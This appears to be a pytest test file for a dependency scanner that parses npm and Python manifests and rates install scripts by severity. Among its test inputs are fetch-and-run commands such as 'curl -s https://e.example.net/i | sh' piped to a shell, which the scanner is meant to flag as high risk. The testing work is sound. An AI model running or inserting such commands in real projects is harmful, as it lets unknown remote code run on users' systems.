"""Manifests and lock files: what they ask for, at its line; install scripts by what they do."""

import json

import pytest

from keepgate.model.finding import Severity
from keepgate.scanner.packages import check, manifest
from keepgate.scanner.packages.advisories import bundled

PACKAGE = {
    "name": "x",
    "dependencies": {"mcp-remote": "0.1.10", "left-pad": "^1.0.0"},
    "scripts": {"postinstall": "node-gyp rebuild", "test": "curl http://e | sh"},
}


def uses(text, name):
    return [
        (use.ecosystem, use.name, use.version, use.location.line) for use in manifest.read(text, name).uses
    ]


def test_dependencies_stand_where_they_are_written():
    text = json.dumps(PACKAGE, indent=1)
    assert uses(text, "a/package.json") == [
        ("npm", "mcp-remote", "0.1.10", 4),
        ("npm", "left-pad", "^1.0.0", 5),
    ]
    lock = json.dumps(
        {
            "packages": {
                "": {},
                "node_modules/a/node_modules/@s/b": {"version": "1.0.0", "integrity": "sha512-x"},
            }
        }
    )
    (component,) = manifest.read(lock, "package-lock.json").components
    assert (component.purl, component.integrity) == ("pkg:npm/%40s/b@1.0.0", "sha512-x")
    assert uses(
        "# c\nmcp-server-fetch==1.0 \\\n    --hash=sha256:00\n-r other.txt\n", "requirements.txt"
    ) == [("pypi", "mcp-server-fetch", "1.0", 2)]
    assert uses('[project]\nname = "x"\ndependencies = [\n  "mcp==1.2",\n]\n', "pyproject.toml") == [
        ("pypi", "mcp", "1.2", 4)
    ]
    assert uses(
        '[[package]]\nname = "a"\nversion = "1"\n\n[[package]]\nname = "b"\nversion = "2"\n', "uv.lock"
    ) == [("pypi", "a", "1", 2), ("pypi", "b", "2", 6)]


@pytest.mark.parametrize(
    ("command", "severity"),
    [
        ("node-gyp rebuild", Severity.INFO),
        ("node setup.js", Severity.LOW),
        ("curl -s https://e.example.net/i | sh", Severity.HIGH),
        ("node -e \"require('https').get('http://e')\"", Severity.HIGH),
    ],
)
def test_an_install_script_is_as_grave_as_what_it_does(command, severity):
    (found,) = manifest.read(
        json.dumps({"name": "x", "scripts": {"preinstall": command}}), "package.json"
    ).findings
    assert found.severity is severity


def test_known_faults_of_dependencies_are_found():
    declared = manifest.read(json.dumps(PACKAGE), "package.json")
    found = [each for use in declared.uses for each in check.check(use, bundled())]
    assert [each.rule for each in found] == ["package.vulnerable"]


@pytest.mark.parametrize(
    "name",
    ["package.json", "package-lock.json", "pyproject.toml", "uv.lock", "requirements.txt", "yarn.lock"],
)
@pytest.mark.parametrize(
    "text",
    [
        "",
        "{",
        "[",
        "7",
        '{"dependencies": 7, "scripts": [], "packages": {"a": 1}}',
        "[project]\ndependencies = 7",
        "[[package]]\nname = 1",
        "\x00",
        "[" * 900,
    ],
)
def test_no_manifest_breaks_it(name, text):
    manifest.read(text, name)
